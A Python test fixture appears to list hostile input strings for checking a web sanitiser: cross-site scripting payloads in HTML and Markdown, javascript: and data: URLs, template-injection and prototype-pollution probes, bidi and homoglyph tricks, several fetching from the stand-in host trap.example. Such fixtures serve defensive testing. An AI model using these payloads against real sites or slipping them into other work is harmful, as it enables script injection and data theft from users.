# ruff: noqa: E501 - a string that would be broken over lines would be another one
"""Strings that want to be more than text: our own table, one kind of trick a line.

Every one that could run calls `alert`, and every one that could fetch asks for something at `trap.example`; so a test
notices both by watching for dialogs and for requests.
"""

from __future__ import annotations

TEXTS = [
    # HTML, as it is and broken in the ways that parsers mend differently
    "<script>alert(1)</script>",
    "<ScRiPt src=//trap.example/a></sCrIpT>",
    "</p></div></article></section><script>alert(2)</script>",
    "<img src=x onerror=alert(3)><img/src='https://trap.example/b'>",
    "<svg><animate onbegin=alert(4) attributeName=x dur=1s><set attributeName=href to=javascript:alert(4)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(5)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(6)>'>",
    "</textarea><img src=x onerror=alert(7)></title><body onload=alert(7)>",
    "<iframe srcdoc='<script>parent.alert(8)</script>'></iframe><object data=//trap.example/c><embed src=//trap.example/d>",
    "<form action=//trap.example/e><button formaction=javascript:alert(9)>Send</button><input name=url autofocus onfocus=alert(9)>",
    "<link rel=stylesheet href=//trap.example/f><style>@import '//trap.example/g';</style><base href=//trap.example/>",
    "<meta http-equiv=refresh content='0;url=//trap.example/h'>",
    "<template shadowrootmode=open><script>alert(10)</script></template>",
    "<a href='java&#10;script:alert(11)'>x</a><a href=\"&#x6a;avascript:alert(11)\">y</a>",
    "<!--><img src=x onerror=alert(12)>--><![CDATA[<script>alert(12)</script>]]><?x <script>alert(12)</script>?>",
    "<video><source onerror=alert(13)></video><details open ontoggle=alert(13)>",
    "\u2039script\u203aalert(14)\u2039/script\u203a \uff1cscript\uff1ealert(14)\uff1c/script\uff1e",
    # Markdown
    "[x](javascript:alert(20)) [x](JAVASCRIPT&colon;alert(20)) [x](java\tscript:alert(20))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgyMSk8L3NjcmlwdD4=) <javascript:alert(21)> <data:text/html,x>",
    '[x](https://a.example/"onmouseover="alert(22)) [x](https://a.example \'x" onclick="alert(22)\')',
    '![x](https://trap.example/i.png) ![x](x "onerror=alert(23)") ![][i]\n\n[i]: https://trap.example/j.png',
    "[x](//trap.example) [x](\\\\trap.example) [x](/desk) [x](#comment-1)",
    '`<img src=x onerror=alert(24)>`\n\n    <script>alert(24)</script>\n\n```html"onclick=alert(24)\n<script>alert(24)</script>\n```',
    "1234567890. x\n\n999999999. y\n\n-1. z",
    "# h\n\n***\n\n| a | b |\n|---|---|\n| <script>alert(25)</script> | c |",
    # templates and scripts around it
    "{{ 7*7 }} {% raw %} ${alert(30)} #{alert(30)} <%= 7*7 %> {{constructor.constructor('alert(30)')()}}",
    '"],"html":"<script>alert(31)</script>",[" \\u003cscript\\u003ealert(31)\\u003c/script\\u003e </script><script>alert(31)//',
    "__proto__ constructor toString hasOwnProperty",
    # writing systems
    "\u202etxet desrever \u2066isolate \u202d\u2067 never closed",
    "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308a\u0315\u031b\u0321lgo\u0489\u0489\u0489 \u200b\u200c\u200d\ufeff \U000e0041\U000e0042",
    "مرحبا <b>HTML</b> שלום [رابط](https://a.example)",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f1e9\U0001f1ea \ufdfd \U0001242b",
    "A" * 2_000,
]

# In a name, where there is one line and no Markdown.
NAMES = [
    "<img src=x onerror=alert(40)>",
    '"><script>alert(41)</script>',
    "' onmouseover='alert(42)",
    "</bdi><script>alert(43)</script>",
    "\u202egnp.exe\u2066",
    "{{ 7*7 }}${alert(44)}",
    "W" * 80,
    "__proto__",
    "[x](javascript:alert(45))",
    "&lt;script&gt;alert(46)&lt;/script&gt;",
]

# As a website. What passes the door must still be an http or https address when it is a link.
WEBSITES = [
    "javascript:alert(50)",
    "JaVaScRiPt://a.example/%0aalert(51)",
    "data:text/html,<script>alert(52)</script>",
    'https://a.example/"onmouseover="alert(53)',
    "https://a.example/'onmouseover='alert(54)",
    "https://a.example/><script>alert(55)</script>",
    "//a.example/x",
    "https://a.example/?q=&lt;script&gt;",
    "https://javascript:alert(56)@a.example/",
    "\u0001javascript:alert(57)",
    "https://a.example/#javascript:alert(58)",
    "vbscript:alert(59)",
    "java\nscript:alert(60)",
    "https://\u0430pple.example/",
]
